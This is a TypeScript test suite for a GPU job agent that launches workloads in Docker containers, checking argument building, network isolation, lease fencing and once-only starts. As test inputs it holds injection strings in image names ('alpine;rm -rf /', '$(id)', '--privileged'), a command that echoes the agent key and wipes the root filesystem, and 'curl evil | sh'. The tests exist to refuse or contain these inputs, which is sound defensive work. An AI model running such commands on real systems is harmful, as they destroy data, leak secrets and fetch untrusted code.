import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { ApiError, createClient, type Client } from "@/agent/src/client";
import {
  DockerLauncher,
  dockerClientEnv,
  dockerRunArgs,
  limitsFor,
  RefusedSpec,
  WORKLOAD_NETWORK,
  type ContainerSpec,
  type Launcher,
  type Workload,
} from "@/agent/src/container";
import { Lease } from "@/agent/src/lease";
import { LogSpool } from "@/agent/src/log-spool";
import { Outbox } from "@/agent/src/outbox";
import { PlacementBook, placementKey } from "@/agent/src/placement-book";
import { ReplicaSupervisor } from "@/agent/src/replica-supervisor";
import { containerName, Runner } from "@/agent/src/runner";
import type { JobAssignment, ReplicaAssignment } from "@/lib/fleet/assignments";
import { dockerStandin } from "../support/docker-standin";
import { tempDir } from "../support/temp-dir";
import { until } from "../support/wait";

const limits = { cpus: 8, memoryMb: 65_536, pids: 16_384 };

const spec = (o: Partial<ContainerSpec> = {}): ContainerSpec => ({
  name: "gpuforge-job-j1-1",
  image: "nvcr.io/nvidia/pytorch:24.05-py3",
  command: "python train.py",
  gpus: [0, 3],
  env: { GPUFORGE_JOB_ID: "j1", GPUFORGE_ATTEMPT: "1" },
  labels: { "gpuforge.job": "j1" },
  limits,
  ...o,
});

describe("the container command line", () => {
  it("runs the image after `--` with the placement's GPUs only, the workload network, no new privileges and bounded resources", () => {
    expect(dockerRunArgs(spec())).toEqual([
      "run",
      "--name",
      "gpuforge-job-j1-1",
      "--init",
      "--gpus",
      '"device=0,3"',
      "--network",
      "gpuforge-workloads",
      "--security-opt",
      "no-new-privileges",
      "--cap-drop",
      "NET_RAW",
      "--cap-drop",
      "MKNOD",
      "--cpus",
      "8",
      "--memory",
      "65536m",
      "--memory-swap",
      "65536m",
      "--shm-size",
      "16384m",
      "--pids-limit",
      "16384",
      "--ulimit",
      "memlock=-1",
      "--stop-timeout",
      "10",
      "--label",
      "gpuforge.job=j1",
      "--env",
      "GPUFORGE_JOB_ID=j1",
      "--env",
      "GPUFORGE_ATTEMPT=1",
      "--",
      "nvcr.io/nvidia/pytorch:24.05-py3",
      "sh",
      "-c",
      "python train.py",
    ]);
    // an image's own entrypoint when there is no command
    expect(dockerRunArgs(spec({ command: undefined })).slice(-2)).toEqual(["--", "nvcr.io/nvidia/pytorch:24.05-py3"]);
  });

  it.each([
    "--privileged",
    "-v/:/host",
    "--network=host",
    "alpine --privileged",
    "alpine;rm -rf /",
    "$(id)",
    "alpine\n--privileged",
    " alpine",
    "",
    "Alpine/Upper:case",
    "alpine:-tag",
    "a".repeat(501),
  ])("refuses the image %j before anything runs", (image) => {
    expect(() => dockerRunArgs(spec({ image }))).toThrow(RefusedSpec);
  });

  it.each([
    "alpine",
    "nvcr.io/nvidia/pytorch:24.05-py3",
    `localhost:5000/team/img@sha256:${"a".repeat(64)}`,
    "ghcr.io/a_b/c.d-e:1.0",
    "registry.example.com:443/x/y/z:v1",
  ])("accepts the image %s", (image) => expect(dockerRunArgs(spec({ image })).at(-4)).toBe(image));

  it("a hostile command stays one argument after the image; environment names and GPUs are checked", () => {
    const args = dockerRunArgs(spec({ command: "echo $GPUFORGE_AGENT_KEY; rm -rf / --no-preserve-root && docker run --privileged x" }));
    expect(args.slice(args.indexOf("--"))).toEqual([
      "--",
      "nvcr.io/nvidia/pytorch:24.05-py3",
      "sh",
      "-c",
      "echo $GPUFORGE_AGENT_KEY; rm -rf / --no-preserve-root && docker run --privileged x",
    ]);
    expect(() => dockerRunArgs(spec({ env: { "A=B": "x" } }))).toThrow(RefusedSpec);
    expect(() => dockerRunArgs(spec({ env: { "1X": "x" } }))).toThrow(RefusedSpec);
    expect(() => dockerRunArgs(spec({ gpus: [] }))).toThrow(RefusedSpec);
    expect(() => dockerRunArgs(spec({ name: "--rm" }))).toThrow(RefusedSpec);
  });

  it("whatever the image string, it is refused or is the one argument right after `--`, and nothing before `--` comes from it", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^[-a-z0-9:./@_ ;$()]{0,40}$/)), fc.string(), (image, command) => {
        let args: string[];
        try {
          args = dockerRunArgs(spec({ image, command }));
        } catch (e) {
          expect(e).toBeInstanceOf(RefusedSpec);
          return;
        }
        const at = args.indexOf("--");
        expect(args[at + 1]).toBe(image);
        expect(image.startsWith("-")).toBe(false);
        expect(args.slice(at + 2)).toEqual(["sh", "-c", command]);
        expect(args.slice(0, at)).not.toContain("--privileged");
        expect(args.slice(0, at).filter((a) => a === "host")).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it("gives each placement its node's share of CPU and memory by GPUs held", () => {
    expect(limitsFor(2, { gpus: 8, cpuCores: 224, memoryMb: 2_048_000 })).toEqual({ cpus: 56, memoryMb: 460_800, pids: 16_384 });
    expect(limitsFor(1, { gpus: 8, cpuCores: 4, memoryMb: 8_000 })).toEqual({ cpus: 1, memoryMb: 1_024, pids: 16_384 });
  });

  it("the docker client sees where the engine is, never the agent's key", () => {
    const env = dockerClientEnv({
      PATH: "/usr/bin",
      HOME: "/root",
      DOCKER_HOST: "unix:///run/docker.sock",
      GPUFORGE_AGENT_KEY: "gf_secret",
      GPUFORGE_URL: "https://cp",
    });
    expect(env).toEqual({ PATH: "/usr/bin", HOME: "/root", DOCKER_HOST: "unix:///run/docker.sock" });
  });
});

const job = (id: string, o: Partial<JobAssignment> = {}): JobAssignment => ({
  kind: "job",
  job_id: id,
  attempt: 1,
  fence: randomUUID(),
  gpu_ids: ["g0"],
  logs_path: `/api/jobs/${id}/logs`,
  outputs_path: `/api/jobs/${id}/outputs`,
  report_token: `gfj_${id}-token`,
  image: "alpine:3.20",
  command: "true",
  ...o,
});

/** A launcher whose agent process can "die": after die(), nothing it started calls back into the dead agent. */
function mortal(inner: Launcher) {
  let dead = false;
  const wrap = (w: Workload | null): Workload | null =>
    w && {
      onOutput: (fn) => w.onOutput((s, d) => void (dead || fn(s, d))),
      onExit: (fn) => w.onExit((c, e) => void (dead || fn(c, e))),
      stop: () => w.stop(),
    };
  const launcher: Launcher = {
    runtime: () => inner.runtime(),
    remove: (n) => inner.remove(n),
    removeNow: (n) => inner.removeNow(n),
    isRunning: (n) => inner.isRunning(n),
    address: (n) => inner.address(n),
    adopt: (n, since) => wrap(inner.adopt(n, since)),
    start: (s) => wrap(inner.start(s))!,
  };
  return { launcher, die: () => void (dead = true) };
}

function agentParts(dir: string, launcher: Launcher) {
  const book = new PlacementBook(path.join(dir, "placements.json"));
  const outbox = new Outbox(path.join(dir, "exit-reports.json"));
  const logs = new LogSpool(path.join(dir, "logs"));
  const runner = new Runner({ book, outbox, logs, launcher, gpuIndexOf: (id) => ({ g0: 0, g1: 1, g2: 2 })[id], limits: () => limits });
  return { book, outbox, logs, runner };
}

describe("the workload network", () => {
  it("is created with inter-container traffic off when the engine lacks it, and found again after", () => {
    const docker = dockerStandin({ networks: {} });
    const launcher = new DockerLauncher(docker.env);
    expect(launcher.prepareNetwork()).toBeNull();
    const create = docker.calls().find((c) => c.args[0] === "network" && c.args[1] === "create")!;
    expect(create.args).toEqual([
      "network",
      "create",
      "--driver",
      "bridge",
      "--opt",
      "com.docker.network.bridge.enable_icc=false",
      "--label",
      "io.gpuforge.role=workloads",
      WORKLOAD_NETWORK,
    ]);
    expect(launcher.prepareNetwork()).toBeNull();
    expect(docker.calls().filter((c) => c.args[1] === "create")).toHaveLength(1);
  });

  it("that someone else created letting containers talk is refused, so the node runs no containers", () => {
    const docker = dockerStandin({ networks: { [WORKLOAD_NETWORK]: { options: {} } } });
    expect(new DockerLauncher(docker.env).prepareNetwork()).toMatch(/lets containers talk to each other/);
  });
});

describe("the runner, with a docker stand-in on PATH", () => {
  it("runs each job in a container with exactly the expected command line, reports exit codes with the placement, captures output, and never hands docker the agent key", async () => {
    const docker = dockerStandin();
    const launcher = new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_secret" }));
    const a = agentParts(tempDir("agent-"), launcher);
    const ok = job("ok", { gpu_ids: ["g0", "g2"], command: "echo epoch 1 done; echo warn >&2" });
    const bad = job("bad", { command: "exit 7", attempt: 3 });
    a.runner.reconcile([ok, bad]);
    await until(() => a.outbox.pending.length === 2);
    const byJob = (x: unknown[], y: unknown[]) => String(x[0]).localeCompare(String(y[0]));
    expect(a.outbox.pending.map((r) => [r.job_id, r.status, r.exit_code, r.attempt, r.fence]).sort(byJob)).toEqual([
      ["bad", "failed", 7, 3, bad.fence],
      ["ok", "completed", 0, 1, ok.fence],
    ]);
    const runs = docker.runs();
    expect(runs).toHaveLength(2);
    const okRun = runs.find((r) => r.includes("gpuforge-job-ok-1"))!;
    expect(okRun).toEqual(
      dockerRunArgs({
        name: "gpuforge-job-ok-1",
        image: "alpine:3.20",
        command: "echo epoch 1 done; echo warn >&2",
        gpus: [0, 2],
        env: {
          GPUFORGE_JOB_ID: "ok",
          GPUFORGE_ATTEMPT: "1",
          GPUFORGE_OUTPUTS_URL: "/api/jobs/ok/outputs",
          GPUFORGE_REPORT_TOKEN: "gfj_ok-token",
        },
        labels: { "gpuforge.job": "ok", "gpuforge.attempt": "1" },
        limits,
      }),
    );
    expect(okRun.slice(okRun.indexOf("--"))).toEqual(["--", "alpine:3.20", "sh", "-c", "echo epoch 1 done; echo warn >&2"]);
    for (const c of docker.calls()) expect(c.env).not.toContain("GPUFORGE_AGENT_KEY");
    for (const r of runs) expect(r.join(" ")).not.toContain("gf_secret");
    // the output is in the placement's log, stream by stream
    expect(a.logs.pendingChunks(placementKey(ok))).toBe(2);
    // a finished container is removed once its outcome is recorded
    await until(() => docker.calls().filter((c) => c.args[0] === "rm").length === 2);
  });

  it("refuses, without running anything, a command with no image and an assignment naming GPUs the node lacks", async () => {
    const docker = dockerStandin();
    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
    a.runner.reconcile([job("no-image", { image: undefined, command: "curl evil | sh" }), job("wrong-gpu", { gpu_ids: ["g9"] })]);
    expect(a.outbox.pending.map((r) => [r.job_id, r.status, r.exit_code])).toEqual([
      ["no-image", "failed", 125],
      ["wrong-gpu", "failed", 125],
    ]);
    expect(a.outbox.pending[0]!.error).toMatch(/runs only inside a container image/);
    expect(docker.runs()).toEqual([]);
  });

  it("reports a container the engine refused to start (exit 125) as failed with the reason", async () => {
    const docker = dockerStandin({ refuseImages: ["private.example/secret:1"] });
    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
    a.runner.reconcile([job("denied", { image: "private.example/secret:1" })]);
    await until(() => a.outbox.pending.length === 1);
    expect(a.outbox.pending[0]).toMatchObject({ status: "failed", exit_code: 125, error: expect.stringContaining("refused") });
  });

  it("stops a job the control plane no longer assigns, without a report; the lease lapsing stops it with an interrupted report", async () => {
    const docker = dockerStandin();
    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
    const taken = job("taken", { command: "sleep 30" });
    const fenced = job("fenced", { command: "sleep 30", attempt: 2 });
    a.runner.reconcile([taken, fenced]);
    await until(() => docker.runs().length === 2);
    a.runner.reconcile([fenced]);
    await until(() => a.book.get(placementKey(taken))?.state === "stopped");
    expect(docker.calls().some((c) => c.args[0] === "stop" && c.args.at(-1) === "gpuforge-job-taken-1")).toBe(true);
    expect(a.outbox.pending).toEqual([]);
    a.runner.interruptAll("the node lost its lease");
    await until(() => a.outbox.pending.length === 1);
    expect(a.outbox.pending[0]).toMatchObject({
      job_id: "fenced",
      attempt: 2,
      fence: fenced.fence,
      status: "interrupted",
      error: "the node lost its lease",
    });
    expect(a.runner.running).toEqual([]);
  });
});

describe("a job's outputs, posted by the workload itself", () => {
  it("the container gets its step's environment, the outputs URL and a placement token (never the agent key), and can post its own outputs with them", async () => {
    const received: Array<{ url: string; auth: string | undefined; body: string }> = [];
    const server = http.createServer((req, res) => {
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => {
        received.push({ url: req.url!, auth: req.headers.authorization, body });
        res.writeHead(200, { "content-type": "application/json" });
        res.end("{}");
      });
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    try {
      const docker = dockerStandin();
      const launcher = new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_secret" }));
      const dir = tempDir("agent-");
      const runner = new Runner({
        book: new PlacementBook(path.join(dir, "placements.json")),
        outbox: new Outbox(path.join(dir, "exit-reports.json")),
        logs: new LogSpool(path.join(dir, "logs")),
        launcher,
        gpuIndexOf: () => 0,
        limits: () => limits,
        baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      });
      const a = job("step", {
        env: { PLAN: "data/a.jsonl", GPUFORGE_JOB_ID: "forged" },
        report_token: "gfj_0123456789abcdef0123456789abcdef_1_token",
        command: `curl -sf -X POST -H "Authorization: Bearer $GPUFORGE_REPORT_TOKEN" -H 'content-type: application/json' -d "{\\"outputs\\": {\\"plan\\": \\"$PLAN\\", \\"job\\": \\"$GPUFORGE_JOB_ID\\"}}" "$GPUFORGE_OUTPUTS_URL"`,
      });
      runner.reconcile([a]);
      await until(() => received.length === 1);
      expect(received[0]).toEqual({
        url: "/api/jobs/step/outputs",
        auth: "Bearer gfj_0123456789abcdef0123456789abcdef_1_token",
        body: '{"outputs": {"plan": "data/a.jsonl", "job": "step"}}',
      });
      const run = docker.runs()[0]!;
      expect(run).toContain("PLAN=data/a.jsonl");
      expect(run).toContain("GPUFORGE_JOB_ID=step");
      expect(run.join(" ")).not.toContain("gf_secret");
    } finally {
      server.close();
    }
  });
});

describe("the node's lease (self-fencing)", () => {
  it("lapses once when no heartbeat got through for the lease the control plane gave, and is renewed by the next one", () => {
    const lease = new Lease(0, 90);
    expect(lease.lapsed(89_000)).toBe(false);
    expect(lease.renew(89_000, 30)).toBe(false); // the reply sets the lease: 30 s from now on
    expect(lease.lapsed(119_000)).toBe(false);
    expect(lease.lapsed(119_001)).toBe(true);
    expect(lease.silentForS(119_001)).toBe(30);
    expect(lease.lapsed(200_000)).toBe(false); // once per lapse: the work was stopped already
    expect(lease.renew(200_000)).toBe(true); // heard again
    expect(lease.lapsed(229_000)).toBe(false);
    expect(lease.lapsed(230_001)).toBe(true);
  });
});

// ---- issue 22: a placement is started exactly once, whatever the interleaving ----

let server: http.Server | undefined;
afterEach(() => server?.close());

/** A control plane that keeps assigning a job until it has the job's exit report. */
async function stubControlPlane(jobs: JobAssignment[]) {
  const reported = new Map<string, unknown>();
  let refusePatches = 0;
  server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      const id = /^\/api\/jobs\/([^/]+)$/.exec(req.url ?? "")?.[1];
      if (req.method === "PATCH" && id) {
        if (refusePatches > 0) {
          refusePatches--;
          return res.writeHead(503).end("{}");
        }
        const j = jobs.find((x) => x.job_id === id);
        const b = JSON.parse(body) as { fence: string };
        if (!j || reported.has(id) || b.fence !== j.fence)
          return res.writeHead(409).end(JSON.stringify({ error: { code: "stale_report" } }));
        reported.set(id, b);
        return res.writeHead(200).end("{}");
      }
      res.writeHead(404).end("{}");
    });
  });
  await new Promise<void>((r) => server!.listen(0, "127.0.0.1", r));
  return {
    client: createClient({ baseUrl: `http://127.0.0.1:${(server!.address() as AddressInfo).port}`, key: "gf_test", maxBackoffMs: 5 }),
    heartbeat: () => jobs.filter((j) => !reported.has(j.job_id)),
    reported,
    refuseNextPatches: (n: number) => void (refusePatches = n),
  };
}

describe("a finished placement is never started again (the agent's tick: logs, reports, then the heartbeat)", () => {
  it("a job that finishes just before a heartbeat whose report has not arrived yet is not started a second time", async () => {
    const docker = dockerStandin();
    const dir = tempDir("agent-");
    const a = agentParts(dir, new DockerLauncher(docker.env));
    const hi = job("hi", { command: "echo hi" });
    const cp = await stubControlPlane([hi]);
    a.runner.reconcile(cp.heartbeat());
    await until(() => a.outbox.pending.length === 1); // it exited; the report waits in the outbox
    cp.refuseNextPatches(1); // and its delivery fails once
    await a.outbox.flush(cp.client);
    const listed = cp.heartbeat();
    expect(listed.map((j) => j.job_id)).toEqual(["hi"]); // the control plane still assigns it
    a.runner.reconcile(listed);
    a.book.forget(new Set(listed.map(placementKey)), (k) => a.outbox.has(k));
    await a.outbox.flush(cp.client);
    a.runner.reconcile(cp.heartbeat());
    a.book.forget(new Set(cp.heartbeat().map(placementKey)), (k) => a.outbox.has(k));
    expect(docker.runs()).toHaveLength(1);
    expect(cp.reported.get("hi")).toMatchObject({ status: "completed", attempt: 1, fence: hi.fence });
    expect(a.book.list()).toEqual([]); // acknowledged and no longer assigned: forgotten
  });

  it("an agent restarted between the exit and its report does not run the job again, and reports it once", async () => {
    const docker = dockerStandin();
    const dir = tempDir("agent-");
    const hi = job("hi", { command: "echo hi" });
    const cp = await stubControlPlane([hi]);
    const process1 = mortal(new DockerLauncher(docker.env));
    const before = agentParts(dir, process1.launcher);
    before.runner.reconcile(cp.heartbeat());
    await until(() => before.outbox.pending.length === 1);
    // the process dies here; a new one starts from the same state directory
    process1.die();
    const after = agentParts(dir, new DockerLauncher(docker.env));
    after.runner.resume();
    after.runner.reconcile(cp.heartbeat());
    await after.outbox.flush(cp.client);
    after.runner.reconcile(cp.heartbeat());
    expect(docker.runs()).toHaveLength(1);
    expect([...cp.reported.keys()]).toEqual(["hi"]);
  });

  it("an agent restarted while the container runs finds it again and reports its real exit once", async () => {
    const docker = dockerStandin();
    const dir = tempDir("agent-");
    const slow = job("slow", { command: "sleep 0.5; exit 4" });
    const cp = await stubControlPlane([slow]);
    const process1 = mortal(new DockerLauncher(docker.env));
    agentParts(dir, process1.launcher).runner.reconcile(cp.heartbeat());
    await until(() => docker.runs().length === 1);
    process1.die();
    const after = agentParts(dir, new DockerLauncher(docker.env));
    after.runner.resume();
    after.runner.reconcile(cp.heartbeat());
    await until(() => after.outbox.pending.length === 1);
    expect(after.outbox.pending[0]).toMatchObject({ job_id: "slow", status: "failed", exit_code: 4 });
    await after.outbox.flush(cp.client);
    expect(docker.runs()).toHaveLength(1);
    expect(cp.reported.get("slow")).toMatchObject({ exit_code: 4 });
  });

  it("a container lost while the agent was away is reported interrupted (requeued without a retry), not started again", async () => {
    const docker = dockerStandin();
    const dir = tempDir("agent-");
    const lost = job("lost", { command: "sleep 30" });
    const process1 = mortal(new DockerLauncher(docker.env));
    agentParts(dir, process1.launcher).runner.reconcile([lost]);
    const engine = new DockerLauncher(docker.env);
    await until(() => engine.isRunning(containerName(lost)));
    process1.die();
    engine.remove(containerName(lost)); // the node rebooted, say
    // the stand-in logs a call before doing it: wait until the container is really gone
    await until(() => !engine.isRunning(containerName(lost)));
    const after = agentParts(dir, new DockerLauncher(docker.env));
    after.runner.resume();
    after.runner.reconcile([lost]);
    expect(after.outbox.pending[0]).toMatchObject({ job_id: "lost", status: "interrupted" });
    expect(docker.runs()).toHaveLength(1);
  });
});

/** An in-memory engine whose containers outlive the agent objects, as docker's do. */
class FakeEngine implements Launcher {
  launches = new Map<string, number>();
  private containers = new Map<string, { exited?: number; exitFns: Array<(code: number) => void> }>();

  runtime() {
    return "fake";
  }

  start(s: ContainerSpec): Workload {
    this.launches.set(s.name, (this.launches.get(s.name) ?? 0) + 1);
    const c = { exitFns: [] as Array<(code: number) => void> };
    this.containers.set(s.name, c);
    return this.workload(s.name);
  }

  adopt(name: string): Workload | null {
    return this.containers.has(name) ? this.workload(name) : null;
  }

  isRunning(name: string): boolean {
    const c = this.containers.get(name);
    return c !== undefined && c.exited === undefined;
  }

  address(name: string): string | null {
    return this.isRunning(name) ? "127.0.0.1" : null;
  }

  remove(name: string) {
    this.containers.delete(name);
  }

  removeNow(name: string) {
    this.containers.delete(name);
  }

  running(): string[] {
    return [...this.containers.entries()].filter(([, c]) => c.exited === undefined).map(([n]) => n);
  }

  exit(name: string, code: number) {
    const c = this.containers.get(name);
    if (!c || c.exited !== undefined) return;
    c.exited = code;
    for (const fn of c.exitFns.splice(0)) fn(code);
  }

  private workload(name: string): Workload {
    return {
      onOutput: () => {},
      onExit: (fn) => {
        const c = this.containers.get(name)!;
        if (c.exited !== undefined) queueMicrotask(() => fn(c.exited!));
        else c.exitFns.push(fn);
      },
      stop: () => this.exit(name, 143),
    };
  }
}

type Step =
  | { t: "heartbeat"; reportsGetThrough: boolean }
  | { t: "exit"; pick: number }
  | { t: "deliver"; ok: boolean }
  | { t: "restart" }
  | { t: "replace"; pick: number };

describe("placements start at most once under any interleaving (property)", () => {
  it("random heartbeats, exits, report deliveries, re-placements and agent restarts never start a placement twice, and every job ends reported", async () => {
    const step: fc.Arbitrary<Step> = fc.oneof(
      // the heartbeat path (an ingest server, say) may be up while reports to the app fail
      fc.record({ t: fc.constant("heartbeat" as const), reportsGetThrough: fc.boolean() }),
      fc.record({ t: fc.constant("exit" as const), pick: fc.nat(10) }),
      fc.record({ t: fc.constant("deliver" as const), ok: fc.boolean() }),
      fc.constant<Step>({ t: "restart" }),
      fc.record({ t: fc.constant("replace" as const), pick: fc.nat(10) }),
    );
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 4 }), fc.array(step, { maxLength: 40 }), async (jobCount, steps) => {
        const dir = tempDir("agent-prop-");
        const engine = new FakeEngine();
        // the control plane: each job's current placement; a report ends it when its fence is current
        const cp = new Map(Array.from({ length: jobCount }, (_, i) => [`j${i}`, { attempt: 1, fence: randomUUID(), done: false }]));
        let failDelivery = false;
        const client: Client = {
          call: async <T>(_m: string, p: string, body?: unknown): Promise<T> => {
            if (failDelivery) throw new Error("control plane unreachable");
            const id = p.split("/").at(-1)!;
            const j = cp.get(id)!;
            const b = body as { fence: string; status: string };
            if (j.done || b.fence !== j.fence) throw new ApiError(409, { error: { code: "stale_report" } });
            if (b.status === "interrupted") {
              Object.assign(j, { attempt: j.attempt + 1, fence: randomUUID() }); // requeued and placed here again
            } else j.done = true;
            return {} as T;
          },
        };
        const assignments = () =>
          [...cp].filter(([, j]) => !j.done).map(([id, j]) => job(id, { attempt: j.attempt, fence: j.fence, command: "train" }));
        let agent = agentParts(dir, engine);
        const tick = async (reportsGetThrough = true) => {
          failDelivery = !reportsGetThrough;
          await agent.outbox.flush(client).catch(() => {});
          failDelivery = false;
          const listed = assignments();
          agent.runner.reconcile(listed);
          agent.book.forget(new Set(listed.map(placementKey)), (k) => agent.outbox.has(k));
        };
        for (const s of steps) {
          if (s.t === "heartbeat") await tick(s.reportsGetThrough);
          if (s.t === "exit") {
            const running = engine.running();
            if (running.length) engine.exit(running[s.pick % running.length]!, s.pick % 3);
            await Promise.resolve();
          }
          if (s.t === "deliver") {
            failDelivery = !s.ok;
            await agent.outbox.flush(client);
            failDelivery = false;
          }
          if (s.t === "restart") {
            agent = agentParts(dir, engine);
            agent.runner.resume();
            await Promise.resolve();
          }
          if (s.t === "replace") {
            // the control plane moved a job (its node was declared lost): a new placement
            const open = [...cp.values()].filter((j) => !j.done);
            if (open.length)
              Object.assign(open[s.pick % open.length]!, { attempt: open[s.pick % open.length]!.attempt + 1, fence: randomUUID() });
          }
          for (const [name, n] of engine.launches) expect(n, `${name} started ${n} times`).toBe(1);
        }
        // then the world settles: heartbeats, exits and deliveries until every job is done
        for (let round = 0; round < 20 && [...cp.values()].some((j) => !j.done); round++) {
          await tick();
          for (const name of engine.running()) engine.exit(name, 0);
          await new Promise((r) => setTimeout(r, 0));
          await agent.outbox.flush(client);
        }
        expect([...cp.values()].every((j) => j.done)).toBe(true);
        for (const [name, n] of engine.launches) expect(n, `${name} started ${n} times`).toBe(1);
        // each job ran exactly once per placement it was given
        for (const [id, j] of cp) expect(engine.launches.get(`gpuforge-job-${id}-${j.attempt}`)).toBe(1);
      }),
      { numRuns: 150 },
    );
    // 150 runs, each writing its book and outbox to disk: seconds on a quiet machine, far more on a loaded one
  }, 120_000);
});

describe("endpoint replicas on the node", () => {
  const replica = (id: string, gpuIds: string[], o: Partial<ReplicaAssignment> = {}): ReplicaAssignment => ({
    kind: "endpoint_replica",
    replica_id: id,
    endpoint_id: "ep-1",
    endpoint_name: "chat",
    model: "org/model",
    attempt: 1,
    fence: randomUUID(),
    gpu_ids: gpuIds,
    metrics_path: "/api/endpoints/ep-1/metrics",
    serving_port: 8000,
    address_path: `/api/endpoints/ep-1/replicas/${id}/address`,
    logs_path: `/api/endpoints/ep-1/replicas/${id}/logs`,
    report_token: `gfw_token_${id}`,
    access_secret: `access-secret-of-${id}`.padEnd(43, "x"),
    ...o,
  });

  it("serves each replica in its image's container with a replica-scoped token and never the agent key; stops it when unassigned", async () => {
    const docker = dockerStandin({ entrypoint: "sleep 30" });
    const sup = new ReplicaSupervisor({
      launcher: new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_agentkey" })),
      logs: new LogSpool(tempDir("spool-")),
      baseUrl: "https://cp.example",
      serveImage: "vllm/vllm-openai:v0.6.3",
      gpuIndexOf: (id) => ({ a: 0, b: 1, c: 2 })[id],
      limits: () => limits,
      reportUnhealthy: async () => {},
    });
    sup.reconcile([replica("r1", ["a", "b"]), replica("r2", ["c"], { image: "ghcr.io/huggingface/text-generation-inference:2.4" })]);
    await until(() => docker.runs().length === 2);
    const r1 = docker.runs().find((r) => r.includes("gpuforge-replica-r1"))!;
    expect(r1).toContain('"device=0,1"');
    expect(r1.slice(r1.indexOf("--"))).toEqual(["--", "vllm/vllm-openai:v0.6.3"]);
    const envs = r1.filter((_, i) => r1[i - 1] === "--env");
    expect(envs).toEqual([
      "GPUFORGE_MODEL=org/model",
      "GPUFORGE_ENDPOINT_ID=ep-1",
      "GPUFORGE_REPLICA_ID=r1",
      "GPUFORGE_METRICS_URL=https://cp.example/api/endpoints/ep-1/metrics",
      "GPUFORGE_REPORT_TOKEN=gfw_token_r1",
      "GPUFORGE_PORT=8000",
    ]);
    expect(JSON.stringify(docker.calls())).not.toContain("gf_agentkey");
    expect(docker.runs().find((r) => r.includes("gpuforge-replica-r2"))).toContain("ghcr.io/huggingface/text-generation-inference:2.4");
    sup.reconcile([replica("r2", ["c"])]);
    expect(sup.replicaIds).toEqual(["r2"]);
    await until(() => docker.calls().some((c) => c.args[0] === "stop" && c.args.at(-1) === "gpuforge-replica-r1"));
    sup.stopAll("test over");
  });

  it("reports a replica whose serving container died unhealthy, then starts a fresh one", async () => {
    const docker = dockerStandin({ entrypoint: "exit 3" });
    const reported: string[] = [];
    const sup = new ReplicaSupervisor({
      launcher: new DockerLauncher(docker.env),
      logs: new LogSpool(tempDir("spool-")),
      baseUrl: "https://cp.example",
      serveImage: "vllm/vllm-openai:v0.6.3",
      gpuIndexOf: () => 0,
      limits: () => limits,
      reportUnhealthy: async (a, reason) => void reported.push(`${a.replica_id}: ${reason}`),
      restartAfterMs: 100,
    });
    sup.reconcile([replica("r1", ["a"])]);
    await until(() => docker.runs().length >= 2);
    sup.stopAll("test over");
    expect(reported[0]).toBe("r1: serving container exited with 3");
  });

  it("a replica with no serving image anywhere is reported unhealthy, never run on the host", async () => {
    const docker = dockerStandin();
    const reported: string[] = [];
    const sup = new ReplicaSupervisor({
      launcher: new DockerLauncher(docker.env),
      logs: new LogSpool(tempDir("spool-")),
      baseUrl: "https://cp",
      serveImage: undefined,
      gpuIndexOf: () => 0,
      limits: () => limits,
      reportUnhealthy: async (a, reason) => void reported.push(reason),
    });
    sup.reconcile([replica("r1", ["a"])]);
    expect(reported[0]).toMatch(/no serving image/);
    expect(docker.runs()).toEqual([]);
  });
});

describe("the log spool", () => {
  it("cuts output into sequenced chunks at line ends, resends until acknowledged (across restarts), caps what waits, and drops a stale placement", async () => {
    const dir = tempDir("spool-");
    const spool = new LogSpool(dir, { capBytes: 64 });
    spool.open("k1", { path: "/api/jobs/j1/logs", attempt: 1, fence: "f1" });
    spool.write("k1", "stdout", Buffer.from("line one\nline t"));
    spool.write("k1", "stdout", Buffer.from("wo\n"));
    spool.write("k1", "stderr", Buffer.from("é".repeat(3) + "\n"));
    expect(spool.pendingChunks("k1")).toBe(3);
    const received: Array<{ url?: string; body: { chunks: Array<{ seq: number; stream: string; text: string }> } }> = [];
    let answer = 503;
    server = http.createServer((req, res) => {
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => {
        received.push({ url: req.url, body: JSON.parse(body) });
        res.writeHead(answer).end("{}");
      });
    });
    await new Promise<void>((r) => server!.listen(0, "127.0.0.1", r));
    const client = createClient({ baseUrl: `http://127.0.0.1:${(server!.address() as AddressInfo).port}`, key: "gf_test" });
    await spool.flush(client); // refused: kept
    const reopened = new LogSpool(dir, { capBytes: 64 }); // the agent restarts
    answer = 202;
    await reopened.flush(client);
    expect(received.at(-1)!.body.chunks.map((c) => [c.seq, c.stream, c.text])).toEqual([
      [0, "stdout", "line one\n"],
      [1, "stdout", "line two\n"],
      [2, "stderr", "ééé\n"],
    ]);
    expect(received.at(-1)!.url).toBe("/api/jobs/j1/logs");
    expect(reopened.pendingChunks("k1")).toBe(0);
    // past the cap: one marker, then nothing
    reopened.write("k1", "stdout", Buffer.from("x".repeat(100) + "\n"));
    reopened.write("k1", "stdout", Buffer.from("more\n"));
    expect(reopened.pendingChunks("k1")).toBe(1);
    answer = 409;
    await reopened.flush(client);
    expect(reopened.has("k1")).toBe(false);
    expect(readFileSync(path.join(dir, "k1.jsonl"), { encoding: "utf8", flag: "a+" })).toBe("");
  });
});
